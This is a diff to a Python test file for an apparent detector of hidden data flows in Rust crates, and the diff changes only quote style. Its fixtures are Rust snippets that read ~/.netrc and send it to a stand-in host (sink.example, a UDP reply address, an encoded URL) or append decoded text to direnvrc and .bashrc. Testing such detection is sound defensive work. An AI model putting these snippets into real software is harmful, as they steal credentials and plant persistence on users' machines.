@@ -283,7 +283,7 @@ def test_an_address_fixed_in_the_crate(literal: str, expected: bool) -> None:
 
 
 def test_a_flow_to_an_address_the_crate_fixes() -> None:
-    read = f"fn f() -> Option<()> {{\n{HOME}let d = std::fs::read(home.join(\".netrc\")).ok()?;\n"
+    read = f'fn f() -> Option<()> {{\n{HOME}let d = std::fs::read(home.join(".netrc")).ok()?;\n'
     # a socket carries the address it sends to, even when the data goes to the reply's
     udp = (
         read + 'let s = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;\n'
@@ -292,7 +292,7 @@ def test_a_flow_to_an_address_the_crate_fixes() -> None:
         "s.send_to(&d, from).ok()?; None }\n"
     )
     assert {flow.fixed for flow in flows(udp)} == {True}
-    named = "const URL: &str = \"https://sink.example/u\";\n" + read
+    named = 'const URL: &str = "https://sink.example/u";\n' + read
     named += "ureq::post(URL).send_bytes(&d).ok()?; None }\n"
     assert [flow.fixed for flow in flows(named)] == [True]
     chosen = read + "ureq::post(&std::env::args().nth(1)?).send_bytes(&d).ok()?; None }\n"
@@ -307,7 +307,7 @@ def test_a_decoder_given_only_literals_and_a_constant_by_its_path() -> None:
         "  String::from_utf8(v).unwrap_or_default()\n}\n"
     )
     send = (
-        f"fn go() {{\n{HOME}let d = std::fs::read(home.join(\".netrc\")).unwrap();\n"
+        f'fn go() {{\n{HOME}let d = std::fs::read(home.join(".netrc")).unwrap();\n'
         "ureq::post(&super::t::table(0, 2)).send_bytes(&d).ok(); }\n"
     )
     assert [(f.hidden, f.fixed) for f in flows(send, t=tables)] == [(True, True)]
@@ -326,7 +326,7 @@ def test_a_decoder_given_only_literals_and_a_constant_by_its_path() -> None:
 
 def test_decoded_text_planted_in_another_programs_settings() -> None:
     decoder = (
-        "const LINE: &str = \"KEEP\";\n"
+        'const LINE: &str = "KEEP";\n'
         "fn caps(s: &str) -> String { s.chars().map(|c| (c as u8 ^ 0x20) as char).collect() }\n"
     )
     appended = decoder + (
@@ -334,15 +334,15 @@ def test_decoded_text_planted_in_another_programs_settings() -> None:
         '  let rc = home.join(".config/direnv/direnvrc");\n'
         "  let mut f = std::fs::OpenOptions::new().append(true).open(&rc).unwrap();\n"
         '  writeln!(f, "{}", caps(LINE)).ok();\n'
-        f"  std::fs::write(home.join(\".bashrc\"), caps(LINE)).ok();\n}}\n"
+        f'  std::fs::write(home.join(".bashrc"), caps(LINE)).ok();\n}}\n'
     )
     planted = [(f.action, f.planted, f.sink) for f in flows(appended)]
     assert planted == [("write", True, "socket write!"), ("write", True, "file write")]
     # numbers rendered as text, or the crate's own file: nothing planted
     rendered = (
         "const B: [f64; 4] = [0.5, 1.0, 2.5, 10.0];\n"
-        "fn render(t: &[f64]) -> String { t.iter().map(|x| format!(\"{x}\\n\")).collect() }\n"
-        f"fn f() {{\n{HOME}  std::fs::write(home.join(\".cache/b\"), render(&B)).ok();\n}}\n"
+        'fn render(t: &[f64]) -> String { t.iter().map(|x| format!("{x}\\n")).collect() }\n'
+        f'fn f() {{\n{HOME}  std::fs::write(home.join(".cache/b"), render(&B)).ok();\n}}\n'
     )
     assert flows(rendered) == []
     own = appended.replace("direnv/direnvrc", "sample/rc").replace(".bashrc", ".sample")
